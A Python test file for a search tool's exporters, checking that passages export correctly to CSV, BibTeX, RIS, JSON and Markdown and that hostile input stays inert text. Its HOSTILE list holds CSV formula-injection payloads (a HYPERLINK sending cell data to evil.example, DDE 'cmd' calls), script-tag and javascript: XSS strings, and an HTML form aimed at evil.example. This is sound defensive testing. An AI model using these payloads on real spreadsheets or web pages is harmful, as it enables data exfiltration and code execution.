"""Passages saved in every form: complete, parsed back by others, and nothing in them runs."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import date

import pytest
import rispy
from bibtexparser.entrypoint import parse_string
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from qa.errors import BadSetting
from qa.exports.csv import COLUMNS, safe_cell, to_csv
from qa.exports.passages import FORMS, hits_as, hits_references
from vectorstore.records import DocumentInfo, Hit, Passage, Source

PAPER = DocumentInfo(
    id="d" * 64, title="A paper", kind="scholarship", language="en", source="/papers/a.pdf",
    added_at="2026-11-23T10:00:00+00:00", text_sha256="t" * 64, author="A. Writer", year=2012,
)  # fmt: skip
OTHER = replace(PAPER, id="e" * 64, title="Another paper")
SOURCE = Source("Constitution", "Art. 4(3)", "1995-08-30", kind="constitution")
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1;"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "＝1+1",
    "\0=1+1",
    "<script>alert(1)</script>",
    "![x](http://evil.example/x.png)",
    "[click](javascript:alert(1))",
    "</td><form action=//evil.example><input>",
    "# heading\n- item\n```\ncode",
)


def hit(text: str, *sources: Source, document: DocumentInfo = PAPER) -> Hit:
    passage = Passage(
        id=f"p-{len(text)}", text=text, start=0, end=len(text), sentences=((0, len(text)),),
        document=document, page=3, locator="para. 2",
        valid_from=date(2017, 3, 10), valid_to=date(2026, 7, 1), sources=sources,
    )  # fmt: skip
    return Hit(passage, 0.5)


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_has_a_row_for_each_passage_in_their_order() -> None:
    text = to_csv([hit('Said: "a, b"\nand more'), hit("Қазақстан")])
    header, row, other = rows(text)

    assert tuple(header) == COLUMNS
    assert dict(zip(header, row, strict=True)) == {
        "title": "A paper", "author": "A. Writer", "year": "2012", "kind": "scholarship",
        "language": "en", "locator": "para. 2", "page": "3", "in force from": "2017-03-10",
        "in force to": "2026-07-01", "text": 'Said: "a, b"\nand more', "id": "p-21",
        "sha256": "d" * 64,
    }  # fmt: skip
    assert other[COLUMNS.index("text")] == "Қазақстан"
    assert text.endswith("\r\n")


def test_what_is_not_known_is_an_empty_cell() -> None:
    bare = replace(hit("A rule.").passage, page=None, valid_from=None, valid_to=None)
    unsigned = replace(bare, document=replace(PAPER, author=None, year=None))
    [_, row] = rows(to_csv([Hit(unsigned, 0.5)]))
    known = dict(zip(COLUMNS, row, strict=True))
    assert [name for name, cell in known.items() if not cell] == [
        "author", "year", "page", "in force from", "in force to"
    ]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE[:10])
def test_no_cell_of_any_column_is_a_formula(text: str) -> None:
    document = replace(PAPER, title=text, author=text, id=text)
    passage = replace(hit(text, document=document).passage, locator=text, id=text)
    [_, row] = rows(to_csv([Hit(passage, 0.5)]))

    told = dict(zip(COLUMNS, row, strict=True))
    for name in ("title", "author", "locator", "text", "id", "sha256"):
        assert told[name] == "'" + text.replace("\0", "")


@given(
    st.text(max_size=12)
    | st.tuples(st.sampled_from("=+-@\t\r\n ＝＋－＠"), st.text(max_size=8)).map("".join)
)
def test_a_cell_is_the_text_and_never_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert cell.lstrip(" ")[:1] not in set("=+-@\t\r\n＝＋－＠") or not cell.strip(" ")
    assert cell.removeprefix("'") == text.replace("\0", "").removeprefix("'")
    [_, row] = rows(to_csv([hit("x", document=replace(PAPER, title=text))]))
    assert row[0] == cell


def test_the_works_cited_are_each_listed_once() -> None:
    hits = [hit("Treaties prevail.", SOURCE), hit("So it is *here*.", SOURCE)]

    constitution, paper = hits_references(hits)
    assert (constitution.title, constitution.pinpoint) == ("Constitution", "Art. 4(3)")
    assert (paper.title, paper.issued) == ("A paper", "2012")
    [one, other] = parse_string(hits_as(hits, "bib")).entries
    assert {one["title"].strip("{}"), other["title"].strip("{}")} == {"Constitution", "A paper"}
    listed = rispy.loads(hits_as(hits, "ris"), delimiter_tags_mapping={})
    for known in (listed, json.loads(hits_as(hits, "json"))):
        assert [work["title"] for work in known] == ["Constitution", "A paper"]


def test_markdown_quotes_each_passage_with_its_reference() -> None:
    markdown = hits_as([hit("One.\n\nTwo *here*.", SOURCE), hit("So it is.")], "md")

    first, second = markdown.strip().split("\n\n")
    assert first.startswith(
        "> One.\n> Two \\*here\\*.\n>\n> — Constitution, Art. 4(3) (30 August 1995)"
    )
    assert second.startswith("> So it is.\n>\n> — A. Writer")


@pytest.mark.parametrize("text", HOSTILE)
def test_what_documents_say_is_text_in_markdown(text: str) -> None:
    document = replace(PAPER, title=text, author=text)
    markdown = hits_as([hit(text, document=document)], "md")
    html = MarkdownIt("gfm-like", {"linkify": False}).render(markdown)
    tags = {part.split(">")[0].split()[0] for part in html.split("<")[1:]}
    assert tags <= {"blockquote", "/blockquote", "p", "/p"}


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_words_break_no_form(form: str, text: str) -> None:
    document = replace(PAPER, title=text, author=text)
    written = hits_as([hit(text, document=document), hit("Plain words.", document=OTHER)], form)
    if form == "bib":
        assert len(parse_string(written).entries) == 2
    elif form == "ris":
        assert len(rispy.loads(written, delimiter_tags_mapping={})) == 2
    elif form == "json":
        assert len(json.loads(written)) == 2
    elif form == "csv":
        assert len(rows(written)) == 3
    else:
        assert "> Plain words." in written


def test_no_hits_make_an_empty_file() -> None:
    made = {form: hits_as([], form) for form in FORMS}
    assert made == {
        "bib": "", "ris": "", "json": "[]", "md": "", "csv": ",".join(COLUMNS) + "\r\n",
    }  # fmt: skip


def test_an_unknown_form_is_named_with_those_there_are() -> None:
    with pytest.raises(BadSetting, match=r"“docx”.*use one of bib, ris, json, csv, md"):
        hits_as([hit("A rule.")], "docx")
